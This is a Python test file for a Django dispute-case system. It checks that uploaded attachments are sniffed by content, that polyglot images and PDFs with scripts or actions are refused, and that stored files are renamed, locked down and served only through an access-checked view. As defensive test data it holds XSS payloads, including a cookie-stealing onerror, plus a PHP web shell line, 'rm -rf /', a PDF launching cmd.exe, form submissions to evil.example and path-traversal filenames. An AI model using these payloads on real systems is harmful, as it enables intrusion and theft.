"""Uploads (附件): what is accepted, how it is stored, and how it is given back.

The count, size and disguised-program cases through the public API and the form are
in tests/disputes/api/test_public_api.py and tests/disputes/views/test_submit.py;
the download's headers and jurisdiction in tests/disputes/workbench/test_case_page.py.
This file covers the rest: markup disguised as a photo, polyglots, the names files
are stored and offered under, their permissions on disk, and that no URL but the
checked view reaches them.
"""

import io
import re
import stat
from pathlib import Path

import pypdf
import pytest
from django.conf import settings as django_settings
from django.contrib.auth import get_user_model
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import get_resolver
from django.views import static

from core.exceptions import ApplicationError
from disputes import intake, services
from disputes.models import Attachment
from disputes.rules.enums import Channel, PartyRole
from grids.models import Role
from tests.disputes.pdf_files import MINIMAL_PDF, PAGES, make_pdf

JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + b"\x11" * 64 + b"\xff\xd9"
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 64
GIF = b"GIF89a\x01\x00\x01\x00\x00\x00\x00;"
PDF = MINIMAL_PDF


def upload(name: str, content: bytes) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type="image/jpeg")  # the browser's claim is never trusted


def refused(name: str, content: bytes) -> str:
    with pytest.raises(ApplicationError) as caught:
        intake.check_attachments([upload(name, content)])
    return caught.value.code


@pytest.mark.parametrize(
    "name, content",
    [
        ("photo.jpg", b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"),
        ("photo.png", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><circle r="5"/></svg>'),
        ("photo.jpg", b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"></svg>'),
        ("photo.jpg", b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 64),  # a Windows program
        ("photo.jpg", b"\x7fELF\x02\x01\x01" + b"\x00" * 64),  # a Linux program
        ("photo.jpg", b"#!/bin/sh\nrm -rf /\n"),
        ("photo.jpg", b"PK\x03\x04" + b"\x00" * 64),  # a zip (and so .docx, .jar, .apk)
        ("photo.gif", b""),
    ],
    ids=["html", "svg-script", "svg", "exe", "elf", "script", "zip", "empty"],
)
def test_whatever_is_not_a_photo_or_pdf_is_refused_whatever_its_name(name, content):
    assert refused(name, content) == "file_type"


@pytest.mark.parametrize(
    "content",
    [
        JPEG[:-2] + b"<script>fetch('/api/v1/cases/')</script>" + JPEG[-2:],
        GIF + b"<html><body onload=alert(1)>",
        PNG + b"<IFRAME src=javascript:alert(1)>",
        JPEG + b"<?php system($_GET['c']); ?>",
        PDF.replace(b"/Type /Catalog", b"/Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
        PDF.replace(b"/Type /Catalog", b"/Type /Catalog /OpenAction << /S /Launch /F (cmd.exe) >>"),
    ],
    ids=["jpeg-script", "gif-html", "png-iframe", "jpeg-php", "pdf-javascript", "pdf-launch"],
)
def test_a_polyglot_is_refused(content):
    """Valid magic bytes in front, markup or an action behind: a photo to the sniffer, a page to a browser."""
    assert refused("photo.jpg", content) == "file_type"


def test_real_photos_and_pdfs_are_accepted_with_the_sniffed_type():
    checked = intake.check_attachments([upload("a.jpg", JPEG), upload("b.png", PNG), upload("c.pdf", PDF)])
    assert [f.content_type for f in checked] == ["image/jpeg", "image/png", "application/pdf"]


CATALOG, PAGE_TREE, PAGE = PAGES


def gif_with_comment(*chunks: bytes) -> bytes:
    """A 1x1 GIF with a comment extension made of the given data sub-blocks."""
    comment = b"!\xfe" + b"".join(bytes([len(c)]) + c for c in chunks) + b"\x00"
    image = b",\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00"
    return b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff" + comment + image + b";"


WEBP = b"RIFF\x24\x00\x00\x00WEBPVP8 \x18\x00\x00\x00" + b"\x30\x01\x00\x9d\x01\x2a" + b"\x00" * 18


@pytest.mark.parametrize(
    "content",
    [
        GIF + b'<svg onload="fetch(`/api/v1/queue/`)">',
        GIF + b"<svg/onload=alert(1)>",
        gif_with_comment(b"<scr", b"ipt>alert(1)</scr", b"ipt>"),
        gif_with_comment(b"<svg xmlns='http://www.w3.org/2000/svg'><circle r='5'/></svg>"),
        GIF + b"<!DOCTYPE HTML PUBLIC><title>x</title>",
        JPEG + b"<object data=//evil.example/x.swf>",
        PNG + b"<EMBED src=//evil.example/x.swf>",
        WEBP + b"<img src=x onerror=alert(document.cookie)>",
        JPEG + b"<a href=vbscript:msgbox(1)>",
    ],
    ids=[
        "gif-svg-onload",
        "gif-svg-slash",
        "gif-comment-split-script",
        "gif-comment-svg",
        "gif-doctype",
        "jpeg-object",
        "png-embed",
        "webp-img-onerror",
        "jpeg-vbscript",
    ],
)
def test_an_image_carrying_markup_is_refused(content):
    """The markers the old list missed (`<svg`, `<object`, `<embed`, event handlers), and a GIF comment
    whose blocks, joined as a GIF reader joins them, spell a script."""
    assert refused("photo.gif", content) == "file_type"


@pytest.mark.parametrize(
    "content",
    [
        gif_with_comment(b"Created with GIMP"),
        JPEG[:-2]
        + b'<?xpacket begin="\xef\xbb\xbf" id="W5M0MpCehiHzreSzNTczkc9d"?>'
        + b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF><rdf:Description tiff:Make="HUAWEI"/>'
        + b"</rdf:RDF></x:xmpmeta><?xpacket end='w'?>"
        + JPEG[-2:],
        WEBP,
    ],
    ids=["gif-comment", "jpeg-xmp", "webp"],
)
def test_images_with_ordinary_metadata_are_accepted_unchanged(content):
    (checked,) = intake.check_attachments([upload("photo", content)])
    assert checked.content == content  # kept as the resident sent it, not re-encoded


def pdf_refused(content: bytes) -> str:
    with pytest.raises(ApplicationError) as caught:
        intake.check_attachments([upload("协议.pdf", content)])
    assert caught.value.code == "file_type"
    return str(caught.value.message)


JS_ACTION = b"<< /S /JavaScript /JS (app.alert(1)) >>"


@pytest.mark.parametrize(
    "content",
    [
        # Names with escaped letters: /JavaScript and /Launch to a PDF reader, not to a byte scan.
        make_pdf(CATALOG.replace(b">>", b" /OpenAction << /S/Java#53cript /JS (app.alert(1)) >> >>"), PAGE_TREE, PAGE),
        make_pdf(CATALOG.replace(b">>", b" /OpenAction << /S/La#75nch /F (cmd.exe) >> >>"), PAGE_TREE, PAGE),
        make_pdf(
            CATALOG.replace(b">>", b" /OpenAction << /S /#4a#61#76#61#53#63#72#69#70#74 /J#53 (x) >> >>"),
            PAGE_TREE,
            PAGE,
        ),
        # The same actions inside a compressed object stream.
        make_pdf(CATALOG.replace(b">>", b" /OpenAction 4 0 R >>"), PAGE_TREE, PAGE, JS_ACTION, packed=True),
        make_pdf(CATALOG, PAGE_TREE, PAGE.replace(b">>", b" /AA << /O 4 0 R >> >>"), JS_ACTION, packed=True),
        make_pdf(
            CATALOG.replace(b">>", b" /Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >> >>"),
            PAGE_TREE,
            PAGE,
            b"<< /Type /Filespec /F (a.exe) >>",
            packed=True,
        ),
        make_pdf(
            CATALOG.replace(b">>", b" /AcroForm << /Fields [] /XFA 4 0 R >> >>"),
            PAGE_TREE,
            PAGE,
            b"[(template) 5 0 R]",
            packed=True,
        ),
        make_pdf(
            CATALOG,
            PAGE_TREE,
            PAGE.replace(b">>", b" /Annots [4 0 R] >>"),
            b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /SubmitForm /F (https://evil.example/) >> >>",
        ),
        make_pdf(
            CATALOG,
            PAGE_TREE,
            PAGE.replace(b">>", b" /Annots [4 0 R] >>"),
            b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>",
            packed=True,
        ),
        make_pdf(CATALOG.replace(b">>", b" /OpenAction << /S /ImportData /F (data.fdf) >> >>"), PAGE_TREE, PAGE),
    ],
    ids=[
        "escaped-javascript",
        "escaped-launch",
        "fully-escaped",
        "packed-open-action",
        "packed-page-aa",
        "packed-embedded-files",
        "packed-xfa",
        "submit-form",
        "packed-rich-media",
        "import-data",
    ],
)
def test_a_pdf_with_active_content_is_refused_wherever_and_however_it_is_written(content):
    # What the old byte scan looked for is nowhere in the file as written.
    assert not any(marker in content for marker in (b"/JavaScript", b"/Launch", b"/EmbeddedFile"))
    message = pdf_refused(content)
    assert "协议.pdf" in message and "嵌入" in message


def test_a_pdf_the_parser_cannot_read_is_refused():
    assert "无法读取" in pdf_refused(b"%PDF-1.4\n" + b"0" * 64)


def test_a_pdf_locked_with_a_password_is_refused_but_one_locked_only_against_editing_is_read():
    def locked(user_password: str) -> bytes:
        writer = pypdf.PdfWriter()
        writer.add_blank_page(width=595, height=842)
        writer.encrypt(user_password=user_password, owner_password="owner-secret", algorithm="RC4-128")
        out = io.BytesIO()
        writer.write(out)
        return out.getvalue()

    assert "无法读取" in pdf_refused(locked("resident-secret"))
    (checked,) = intake.check_attachments([upload("协议.pdf", locked(""))])
    assert checked.content_type == "application/pdf"


def test_a_pdf_refusal_speaks_english_when_asked():
    from django.utils import translation

    with translation.override("en"):
        message = pdf_refused(
            make_pdf(CATALOG.replace(b">>", b" /OpenAction 4 0 R >>"), PAGE_TREE, PAGE, JS_ACTION, packed=True)
        )
    assert message.startswith("“协议.pdf” contains scripts")


@pytest.mark.parametrize(
    "content",
    [
        MINIMAL_PDF,
        make_pdf(*PAGES, packed=True),
        # Opening at page one and a web link are what ordinary documents carry.
        make_pdf(
            CATALOG.replace(b">>", b" /OpenAction [3 0 R /Fit] >>"),
            PAGE_TREE,
            PAGE.replace(b">>", b" /Annots [4 0 R] >>"),
            b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://www.gov.cn/) >> >>",
            packed=True,
        ),
    ],
    ids=["plain", "packed", "open-at-page-and-link"],
)
def test_ordinary_pdfs_are_accepted(content):
    (checked,) = intake.check_attachments([upload("协议.pdf", content)])
    assert checked.content == content and checked.content_type == "application/pdf"


@pytest.mark.parametrize(
    "given, content_type, offered",
    [
        ("现场照片.jpg", "image/jpeg", "现场照片.jpg"),
        ("现场照片.html", "image/jpeg", "现场照片.jpg"),
        ("invoice.pdf.exe", "application/pdf", "invoice.pdf.pdf"),
        ("../../etc/passwd", "image/png", "passwd.png"),
        ("..\\..\\boot.ini", "image/png", "boot.png"),
        ("a\x00b\r\nc.svg", "image/gif", "abc.gif"),
        (".htaccess", "image/png", "htaccess.png"),
        ("", "application/pdf", "file.pdf"),
    ],
)
def test_the_offered_name_keeps_the_residents_name_with_the_real_extension(given, content_type, offered):
    assert intake.download_name(given, content_type) == offered


@pytest.fixture
def private_storage(settings, tmp_path):
    settings.PRIVATE_STORAGE_ROOT = tmp_path / "private"
    return settings.PRIVATE_STORAGE_ROOT


@pytest.fixture
def stored(private_storage, tree, category):
    """A case submitted with a photo whose name tries every trick."""
    result = services.dispute_intake(
        category=category,
        description="邻居装修噪音扰民，多次协商未果。",
        grid=tree.grid_a,
        channel=Channel.WEB,
        parties=[
            {"role": PartyRole.APPLICANT, "name": "张三", "phone": "13800138000"},
            {"role": PartyRole.RESPONDENT, "name": "李四", "phone": "13900139000"},
        ],
        attachments=[upload("../../static/张三的照片.php.html", JPEG)],
    )
    return result.dispute, result.dispute.attachments.get()


def test_files_are_stored_under_random_names_with_no_extension_and_no_execute_bit(stored, private_storage):
    case, attachment = stored
    assert re.fullmatch(r"[0-9a-f]{32}", attachment.storage_name)
    assert attachment.original_name == "张三的照片.php.jpg"
    assert attachment.content_type == "image/jpeg"
    files = [p for p in Path(private_storage).rglob("*") if p.is_file()]
    assert files == [Path(private_storage) / attachment.storage_name[:2] / attachment.storage_name]
    assert files[0].read_bytes() == JPEG
    mode = stat.S_IMODE(files[0].stat().st_mode)
    assert mode == 0o600, oct(mode)
    assert not mode & (stat.S_IXUSR | stat.S_IXGRP | stat.S_IXOTH)
    # Nothing of the resident's name reaches the disk.
    assert "张三" not in str(files[0]) and "php" not in str(files[0])


def test_a_second_upload_gets_another_random_name(private_storage, tree, category):
    names = set()
    for phone in ("13800138001", "13800138002"):
        result = services.dispute_intake(
            category=category,
            description="邻居装修噪音扰民。",
            grid=tree.grid_a,
            channel=Channel.WEB,
            parties=[{"role": PartyRole.APPLICANT, "name": "张三", "phone": phone}],
            attachments=[upload("same.jpg", JPEG)],
        )
        names.add(result.dispute.attachments.get().storage_name)
    assert len(names) == 2


def test_private_files_live_outside_every_served_folder():
    private = Path(django_settings.PRIVATE_STORAGE_ROOT).resolve()
    served = [Path(django_settings.STATIC_ROOT), *map(Path, django_settings.STATICFILES_DIRS)]
    if django_settings.MEDIA_ROOT:
        served.append(Path(django_settings.MEDIA_ROOT))
    for folder in served:
        folder = folder.resolve()
        assert not private.is_relative_to(folder), f"{private} is under the served folder {folder}"
        assert not folder.is_relative_to(private)
    # No URL pattern serves files from a folder (django.views.static.serve); the checked view is the only door.
    views = {
        getattr(callback, "__module__", "")
        for callback in _all_callbacks(get_resolver().url_patterns)
        if callable(callback)
    }
    assert static.__name__ not in views


def _all_callbacks(patterns):
    for pattern in patterns:
        if hasattr(pattern, "url_patterns"):
            yield from _all_callbacks(pattern.url_patterns)
        else:
            yield pattern.callback


def test_the_stored_file_is_not_reachable_by_a_static_or_media_url(client, stored):
    _case, attachment = stored
    relative = f"{attachment.storage_name[:2]}/{attachment.storage_name}"
    for url in (
        f"/static/{relative}",
        f"/static/private/{relative}",
        f"/media/{relative}",
        f"/private/{relative}",
        f"/var/private/{relative}",
    ):
        assert client.get(url).status_code == 404, url


@pytest.fixture
def download_url(stored):
    case, attachment = stored
    from django.urls import reverse

    return reverse("disputes:case_attachment", kwargs={"tracking_number": case.tracking_number, "pk": attachment.pk})


def _client(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


def test_the_download_is_an_attachment_with_the_sniffed_type_and_a_safe_name(download_url, staff_a):
    answer = _client(staff_a[Role.DISPATCHER]).get(download_url)
    assert answer.status_code == 200
    assert b"".join(answer.streaming_content) == JPEG
    assert answer["Content-Type"] == "image/jpeg"
    assert answer["Content-Disposition"].startswith("attachment;")
    assert answer["Content-Disposition"].endswith(".php.jpg") or ".php.jpg" in answer["Content-Disposition"]
    assert ".html" not in answer["Content-Disposition"]
    assert answer["X-Content-Type-Options"] == "nosniff"
    assert "no-store" in answer["Cache-Control"]


def test_a_name_stored_before_normalisation_is_still_offered_with_the_real_extension(download_url, staff_a, stored):
    _case, attachment = stored
    Attachment.objects.filter(pk=attachment.pk).update(original_name="照片.html")
    answer = _client(staff_a[Role.DISPATCHER]).get(download_url)
    assert answer.status_code == 200
    assert ".html" not in answer["Content-Disposition"]
    assert answer["Content-Disposition"].endswith(".jpg") or "%E7%85%A7%E7%89%87.jpg" in answer["Content-Disposition"]


def test_accounts_that_do_not_work_in_the_area_get_nothing(download_url, make_staff, tree, client):
    outsider = make_staff(Role.MEDIATOR, area=tree.town_b)
    assert _client(outsider).get(download_url).status_code == 404
    no_profile = get_user_model().objects.create_user("no-profile", password="x" * 12)
    assert _client(no_profile).get(download_url).status_code == 404
    anonymous = client.get(download_url)
    assert anonymous.status_code == 302 and anonymous["Location"].startswith(django_settings.LOGIN_URL)


def test_a_pdf_with_more_objects_than_can_be_checked_in_time_is_refused(monkeypatch):
    monkeypatch.setattr(intake, "MAX_PDF_OBJECTS", 50)
    many = make_pdf(*PAGES, *(b"<< /N %d >>" % i for i in range(60)))
    assert "过多" in pdf_refused(many)
    (checked,) = intake.check_attachments([upload("协议.pdf", make_pdf(*PAGES, *(b"<< /N 1 >>",) * 40))])
    assert checked.content_type == "application/pdf"
